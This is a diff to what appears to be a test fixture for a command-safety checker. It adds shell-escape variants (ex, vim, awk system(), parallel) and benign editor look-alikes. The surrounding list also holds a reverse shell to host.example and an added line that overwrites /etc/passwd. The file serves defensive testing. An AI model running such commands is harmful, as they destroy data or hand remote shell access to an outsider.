@@ -260,6 +260,8 @@ vim -c 'term DELETES'
 vim -S commands.vim
 nvim --headless +'lua os.execute("DELETES")' +q
 ex -s x <<< '!DELETES'
+ex -sc '!DELETES' x
+vim -es -c 'wq! /etc/passwd' x
 printf '!DELETES\\nq\\n' | ed x
 emacs --batch --eval '(shell-command "DELETES")'
 emacs --batch --eval '(call-process "kubectl" nil nil nil "--context" "prod-eu" "delete" "ns" "a")'
@@ -290,6 +292,8 @@ script -qc 'DELETES' /dev/null
 flock /tmp/l -c 'DELETES'
 env -S 'DELETES'
 xargs -a evil.sh -I{} sh -c '{}'
+echo 'DELETES' | parallel
+awk -v c='DELETES' 'BEGIN { system(c) }'
 bash -i >& /dev/tcp/host.example/4444 0>&1
 alias x='DELETES'; x
 """
@@ -379,6 +383,9 @@ make SHELL=/bin/bash x
 vim -c 'set nu' x
 vim -es -c '%s/a/b/g' -c wq x
 vim -c '%!jq .' -c wq x.json
+vim -c 'e x | %s/a/b/ge | update' -c q
+vim -c 'w! copy.txt' -c q x
+awk -v word='DELETES' '$0 ~ word' notes.txt
 nvim --headless '+Lazy! sync' +qa
 emacs --batch -l ert -f ert-run-tests-batch-and-exit
 emacs --batch --eval '(message "kubectl delete")'
